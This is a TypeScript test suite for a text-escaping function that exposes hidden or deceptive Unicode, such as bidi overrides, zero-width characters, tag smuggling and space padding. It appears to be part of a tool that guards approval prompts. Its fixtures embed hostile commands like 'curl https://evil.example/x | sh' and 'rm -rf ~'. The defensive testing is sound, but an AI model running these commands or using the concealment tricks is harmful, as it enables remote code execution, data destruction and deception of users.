import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeLine, escapeText, textPieces } from '../../../src/display';
import { attacks, benign } from '../../fixtures/attacks';
import { selector, unescaped } from './unescaped';
import { runs } from '../runs';

/** Text as data in variation selectors. */
const hide = (text: string): string =>
  Array.from(text, (char) => selector(char.charCodeAt(0))).join('');

const FORBIDDEN =
  /[\p{Default_Ignorable_Code_Point}\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Cs}\p{Zl}\p{Zp}\u2800\uFFFC\u{1D159}]|(?! )\p{Zs}/u;

/** Pieces that have deceived people, alone and next to each other. */
const nasties = [
  [
    'a',
    'b',
    ' ',
    '  ',
    '\n',
    '\n\n',
    '\n\n\n\n\n\n',
    '\r',
    '\r\n',
    '\r'.repeat(6),
    '\t',
    '\u00A0',
    '\u202F',
    '\u3000',
    '\u2800',
  ],
  ['\u202E', '\u2066', '\u2069', '\u200B', '\u200C', '\u200D', '\uFE0F', '\uFE0E', '\uFE01'],
  ['\u0301', '\u0489', '\u20DD', '\u{1D167}', '\u034F', '\u3164', '\u115F', '\u0008', '\u001B'],
  [
    '\u2028',
    '\u0085',
    '\uE000',
    '\u0378',
    '\uD83D',
    '\uDE00',
    '\u{E0041}',
    '\u{E0020}',
    '\u{E007F}',
  ],
  ['\u{E0100}', '\u{1F469}', '\u{1F469}\u200D\u{1F467}', '\u2764', '1\uFE0F\u20E3', '#', '\u0645'],
  ['\u0928', '\u094D', '\u845B', '\u27E6', '\u27E7', '\u27E8', '\u27E9', '\u27E83000 spaces\u27E9'],
  [
    'U+202E RLO',
    'hidden text: ',
    '+',
    '\u00D7',
    '(',
    ')',
    '"',
    ' '.repeat(16),
    '\u00A0'.repeat(16),
  ],
].flat();
const group = fc.array(fc.constantFrom(...nasties), { minLength: 1, maxLength: 3 });
const repeated = fc
  .tuple(group, fc.integer({ min: 2, max: 20 }), fc.constantFrom('', ...nasties))
  .map(([parts, times, rest]) => parts.join('').repeat(times) + rest);
const nasty = fc
  .array(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...nasties) }, repeated), {
    maxLength: 16,
  })
  .map((parts) => parts.join(''));

function stringsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, part]) => [key, ...stringsOf(part)]);
}

describe('escaping', () => {
  it.each([
    [
      'T01_bidi_override',
      'curl http://safe.com/⟦U+202E RLO⟧⟦U+2066 LRI⟧moc.live⟦U+2069 PDI⟧/data | sh',
    ],
    ['T02_isolate_escape', 'x⟦U+2069 PDI⟧⟦U+202E RLO⟧boss@corp'],
    ['T04_tag_smuggling', 'Weekly report⟦U+E0001⟧⟦hidden text: bcc:a@e.io⟧⟦U+E007F⟧'],
    ['T06_zero_width', 'rm -rf /tmp/⟦U+200B ZWSP⟧important'],
    ['T08_c0_c1', 'safe⟦4 × U+0008 BS⟧evil ⟦U+001B ESC⟧[2K⟦U+009B CSI⟧1A⟦U+0007 BEL⟧'],
    ['T10_lookalike_space', 'rm -rf ./build /⟦U+00A0 NBSP⟧⟦U+2003⟧⟦U+3000⟧⟦U+2800⟧home'],
    ['T17_zalgo', 'a⟨+120 combining marks: 40 × (U+0301, U+0489, U+20DD)⟩ Approve?'],
    ['T19_space_pad', 'echo ok⟨3000 spaces⟩&& curl https://evil.example/x | sh'],
    ['T20_newline_pad', 'echo ok\n⟨400 blank lines⟩\nrm -rf ~'],
  ] as const)('labels what %s hides', (name, shown) => {
    expect(escapeText(attacks[name])).toBe(shown);
  });

  it('labels the names that are all filler', () => {
    expect(escapeText(attacks.T07_filler_name.tool)).toBe('read_file⟦U+3164⟧');
    expect(Object.keys(attacks.T07_filler_name.args).map(escapeText)).toEqual([
      '⟦U+FFA0⟧',
      '⟦U+115F⟧⟦U+1160⟧',
    ]);
  });

  it('leaves no forbidden character in any attack', () => {
    for (const text of stringsOf(attacks))
      expect(escapeText(text).replaceAll('\n', '')).not.toMatch(FORBIDDEN);
  });

  it('shows text that is visible as it is', () => {
    for (const name of [
      'T11_homoglyph_host',
      'T13_userinfo_host',
      'T15_compat_ascii',
      'T32_html',
      'T38_proto',
    ] as const)
      expect(escapeText(attacks[name])).toBe(attacks[name]);
  });

  it('names all twelve bidirectional controls', () => {
    const controls = '\u061C\u200E\u200F\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069';
    const names = 'ALM LRM RLM LRE RLE PDF LRO RLO LRI RLI FSI PDI'.split(' ');
    Array.from(controls).forEach((control, i) => {
      expect(escapeText(`a${control}b`)).toMatch(new RegExp(`^a⟦U\\+\\w{4} ${names[i]}⟧b$`));
      expect(textPieces(control)).toMatchObject([{ kind: 'token', finding: 'bidi' }]);
    });
  });

  it('prints no character of the forbidden properties, whichever it is', () => {
    // The upper planes hold little but unassigned and private characters: every 61st of them.
    const wrong: string[] = [];
    for (let code = 0; code <= 0x10ffff; code += code < 0x20000 || code >> 16 === 0xe ? 1 : 61) {
      const char = String.fromCodePoint(code);
      if (char === '\n' || !FORBIDDEN.test(char)) continue;
      const shown = escapeText(`a${char}a`);
      if (FORBIDDEN.test(shown) || shown.length < 6) wrong.push(code.toString(16));
    }
    expect(wrong).toEqual([]);
  });

  it('can be undone, so that no two texts look the same', () => {
    fc.assert(
      fc.property(nasty, (text) => unescaped(escapeText(text)) === text),
      { numRuns: runs(30_000) },
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(unescaped(escapeText(text))).toBe(text);
      }),
    );
  });

  it('never gives two texts the same look', () => {
    fc.assert(
      fc.property(nasty, nasty, (one, other) => {
        fc.pre(one !== other);
        return escapeText(one) !== escapeText(other) && escapeLine(one) !== escapeLine(other);
      }),
      { numRuns: runs(5000) },
    );
  });

  it('never gives two texts the same look when they differ in one place', () => {
    const choice = fc.constantFrom(...nasties);
    fc.assert(
      fc.property(nasty, choice, choice, nasty, (head, one, other, tail) => {
        const [first, second] = [head + one + tail, head + other + tail];
        fc.pre(first !== second);
        return escapeText(first) !== escapeText(second) && escapeLine(first) !== escapeLine(second);
      }),
      { numRuns: runs(5000) },
    );
  });

  it('never gives two short texts the same look', () => {
    const alphabet = [
      'a',
      ' ',
      '\n',
      '\r',
      '\t',
      '\u00A0',
      '\u0301',
      '\u200D',
      '\uFE0F',
      '\u27E6',
      '\u{1F600}',
    ];
    const seen = new Map<string, string>();
    const alike: unknown[] = [];
    const visit = (text: string, rest: number): void => {
      const shown = escapeText(text);
      if ((seen.get(shown) ?? text) !== text) alike.push([text, seen.get(shown)]);
      seen.set(shown, text);
      if (rest > 0) for (const char of alphabet) visit(text + char, rest - 1);
    };
    visit('', runs(60) < 60 ? 3 : 4);
    expect(alike).toEqual([]);
  });

  it('prints no forbidden character next to any other', () => {
    const quiet = /\u200C|\u200D|\uFE0F/g;
    fc.assert(
      fc.property(nasty, (text) => {
        expect(escapeText(text).replaceAll('\n', '').replace(quiet, '')).not.toMatch(FORBIDDEN);
        expect(escapeLine(text)).not.toContain('\n');
      }),
      { numRuns: runs(5000) },
    );
  });

  it('accepts any string, halves of surrogate pairs included', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const pieces = textPieces(text);
        expect(pieces.map((piece) => (piece.kind === 'break' ? '\n' : piece.text)).join('')).toBe(
          escapeText(text),
        );
      }),
    );
    expect(escapeText('\uD83D')).toBe('⟦U+D83D⟧');
    expect(escapeText('\uDE00\uD83D')).toBe('⟦U+DE00⟧⟦U+D83D⟧');
  });

  it('labels brackets, so that no label can be forged', () => {
    expect(escapeText('⟨3000 spaces⟩')).toBe('⟦U+27E8⟧3000 spaces⟦U+27E9⟧');
    expect(textPieces('⟦')).toEqual([{ kind: 'token', text: '⟦U+27E6⟧', finding: null }]);
  });
});

describe('pieces of text', () => {
  it('break lines at U+000A and nowhere else', () => {
    expect(textPieces('a\nb\u2028c\u0085d\re')).toEqual([
      { kind: 'text', text: 'a' },
      { kind: 'break' },
      { kind: 'text', text: 'b' },
      { kind: 'token', text: '⟦U+2028 LS⟧', finding: 'control' },
      { kind: 'text', text: 'c' },
      { kind: 'token', text: '⟦U+0085 NEL⟧', finding: 'control' },
      { kind: 'text', text: 'd' },
      { kind: 'token', text: '⟦U+000D CR⟧', finding: 'control' },
      { kind: 'text', text: 'e' },
    ]);
  });

  it('are none for no text', () => {
    expect(textPieces('')).toEqual([]);
  });

  it('label tabs, carriage returns at line ends and no-break spaces in prose without alarm', () => {
    expect(textPieces('a\tb\r\n1\u00A0€')).toEqual([
      { kind: 'text', text: 'a' },
      { kind: 'token', text: '⟦TAB⟧', finding: null },
      { kind: 'text', text: 'b' },
      { kind: 'token', text: '⟦CR⟧', finding: null },
      { kind: 'break' },
      { kind: 'text', text: '1' },
      { kind: 'token', text: '⟦NBSP⟧', finding: null },
      { kind: 'text', text: '€' },
    ]);
  });

  it('put one line on one line', () => {
    expect(escapeLine('a\nb\r\nc')).toBe('a⟦line break⟧b⟦CR⟧⟦line break⟧c');
  });
});

describe('runs of blanks', () => {
  it('are counted from sixteen on, within and at the end of a line', () => {
    expect(escapeText(`a${' '.repeat(15)}b`)).toBe(`a${' '.repeat(15)}b`);
    expect(escapeText(`a${' '.repeat(16)}b`)).toBe('a⟨16 spaces⟩b');
    expect(escapeText(`a${' '.repeat(20)}`)).toBe('a⟨20 spaces⟩');
    expect(escapeText(`${' '.repeat(16)}b`)).toBe('⟨16 spaces⟩b');
  });

  it('say which spaces they are made of', () => {
    expect(escapeText(`a${'\u00A0'.repeat(20)}b`)).toBe('a⟨20 blanks: 20 × U+00A0 NBSP⟩b');
    expect(escapeText(`a${' \u3000'.repeat(10)}b`)).toBe('a⟨20 blanks: 10 × (U+0020 SP, U+3000)⟩b');
    expect(escapeText(`a${'\u3164'.repeat(20)}b`)).toBe('a⟨20 blanks: 20 × U+3164⟩b');
  });

  it('are shown at the end of a line, since nobody sees them there', () => {
    expect(escapeText('path ')).toBe('path⟨1 space⟩');
    expect(escapeText('a  \nb')).toBe('a⟨2 spaces⟩\nb');
  });

  it('leave the indentation of code alone', () => {
    const code = `if x:\n${' '.repeat(24)}return 1`;
    expect(escapeText(code)).toBe(code);
    expect(escapeText(`a\n${' '.repeat(65)}b`)).toBe('a\n⟨65 spaces⟩b');
  });

  it('of empty lines are counted from six on, with or without blanks in them', () => {
    expect(escapeText('a\n\n\n\n\nb')).toBe('a\n\n\n\n\nb');
    expect(escapeText('a\n\n\n\n\n\nb')).toBe('a\n⟨6 blank lines⟩\nb');
    expect(escapeText(`a${'\n '.repeat(400)}b`)).toBe(
      'a\n⟨400 blank lines: 399 × (U+000A LF, U+0020 SP), U+000A LF⟩\n b',
    );
    expect(escapeText(`a\u2028${'\u2028'.repeat(9)}b`)).toBe('a⟦10 × U+2028 LS⟧b');
  });

  it('of empty lines are counted however lines end', () => {
    expect(escapeText(`a${'\r\n'.repeat(20)}b`)).toBe(
      'a⟦CR⟧\n⟨20 blank lines: 19 × (U+000A LF, U+000D CR), U+000A LF⟩\nb',
    );
    expect(escapeText(`a${' \r\n'.repeat(20)}b`)).toBe(
      'a⟨1 space⟩⟦CR⟧\n⟨20 blank lines: 19 × (U+000A LF, U+0020 SP, U+000D CR), U+000A LF⟩\nb',
    );
    expect(escapeText(`a${'\r'.repeat(20)}b`)).toBe('a⟨20 blank lines: 20 × U+000D CR⟩b');
    expect(escapeText(`a\n${'\r'.repeat(5)}\nb`)).toBe(
      'a\n⟨6 blank lines: U+000A LF, 5 × U+000D CR, U+000A LF⟩\nb',
    );
    expect(escapeText(`a\n${'\r'.repeat(6)}b`)).toBe('a\n⟨6 blank lines: 6 × U+000D CR⟩b');
    expect(escapeText(`a${'\r\n'.repeat(5)}b`)).toBe(`a${'⟦CR⟧\n'.repeat(5)}b`);
    expect(escapeText(`a${'\r'.repeat(6)}\nb`)).toBe('a⟦6 × U+000D CR⟧\nb');
  });
});

describe('combining marks', () => {
  it('stay on their letter up to four', () => {
    const text = 'a\u0301\u0302\u0303\u0304';
    expect(escapeText(text)).toBe(text);
    expect(escapeText(`${text}\u0305`)).toBe(
      'a⟨+5 combining marks: U+0301, U+0302, U+0303, U+0304, U+0305⟩',
    );
  });

  it('are counted across planes', () => {
    expect(escapeText('a\u0301\u0301\u0301\u{1D167}\u{1D167}')).toBe(
      'a⟨+5 combining marks: 3 × U+0301, 2 × U+1D167⟩',
    );
    expect(escapeText('a\u{1D167}\u{1D167}\u{1D167}\u{1D167}\u0301')).toBe(
      'a⟨+5 combining marks: 4 × U+1D167, U+0301⟩',
    );
  });

  it('without a letter never land on what stands before', () => {
    expect(escapeText('\u0338a')).toBe('⟨+1 combining mark: U+0338⟩a');
    expect(escapeText('a \u0338')).toBe('a ⟨+1 combining mark: U+0338⟩');
    expect(escapeText('a\n\u0338')).toBe('a\n⟨+1 combining mark: U+0338⟩');
    expect(escapeText('\u202E\u0338')).toBe('⟦U+202E RLO⟧⟨+1 combining mark: U+0338⟩');
  });
});

describe('hidden text', () => {
  it('in variation selectors is shown as text, or as bytes', () => {
    expect(escapeText(`\u{1F600}${hide('pay bob')}`)).toBe('\u{1F600}⟦hidden data "pay bob"⟧');
    expect(escapeText(`x${hide('\0\u00FF')}`)).toBe('x⟦hidden data 00 FF⟧');
  });

  it('in a flag without end is decoded', () => {
    expect(escapeText('\u{1F3F4}\u{E0072}\u{E006D}')).toBe('\u{1F3F4}⟦hidden text: rm⟧');
  });

  it('cannot push anything out of sight itself', () => {
    expect(escapeText('\u{E0020}'.repeat(3000))).toBe('⟦hidden text: ⟨3000 × SP⟩⟧');
  });
});

describe('ordinary text', () => {
  it.each([
    ['a family', '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}'],
    ['a heart', '\u2764\uFE0F'],
    ['a burning heart', '\u2764\uFE0F\u200D\u{1F525}'],
    ['a keycap', 'press 1\uFE0F\u20E3'],
    ['a person with a ball', '\u26F9\u{1F3FD}\u200D\u2640\uFE0F'],
    ['the flag of Scotland', '\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}'],
    ['Persian', '\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645'],
    ['Hindi', '\u0915\u094D\u200D\u0937'],
    ['Malayalam', '\u0D05\u0D35\u0D28\u0D4D\u200D'],
    ['Vietnamese, decomposed', 'Vie\u0323\u0302t'],
    ['science', 'Δt = 3 µm'],
  ])('stays whole: %s', (_, text) => {
    expect(escapeText(text)).toBe(text);
  });

  it('of the corpus raises no alarm', () => {
    for (const text of benign)
      for (const piece of textPieces(text))
        expect(piece).not.toHaveProperty('finding', expect.any(String));
  });

  it('does not lend its joiners to others', () => {
    expect(escapeText('rm\u200Drf')).toBe('rm⟦U+200D ZWJ⟧rf');
    expect(escapeText('\u0645\u200C\u200C\u0645')).toBe('\u0645⟦U+200C ZWNJ⟧⟦U+200C ZWNJ⟧\u0645');
    expect(escapeText('\u{1F600}\uFE0F')).toBe('\u{1F600}⟦VS16⟧');
    expect(escapeText('a\uFE0F')).toBe('a⟦U+FE0F VS16⟧');
  });
});

describe('large texts', () => {
  it.each([
    ['plain', 'x'.repeat(runs(2_000_000))],
    ['overrides', '\u202E'.repeat(runs(2_000_000))],
    ['spaces of two kinds', ' \u00A0'.repeat(runs(1_000_000))],
    ['empty lines', '\n'.repeat(runs(2_000_000))],
    ['nearly empty lines', `\n${' '.repeat(100)}`.repeat(runs(20_000))],
    ['nearly long runs', `${' '.repeat(15)}x`.repeat(runs(125_000))],
    ['marks', `a${'\u0301\u0302'.repeat(runs(1_000_000))}`],
    ['tags', '\u{E0041}'.repeat(runs(1_000_000))],
    ['selectors', '\uFE01'.repeat(runs(2_000_000))],
    ['halves', '\uD83D'.repeat(runs(2_000_000))],
  ])('are taken apart, whatever they are made of: %s', (_, text) => {
    expect(escapeText(text).length).toBeGreaterThan(0);
  });
});
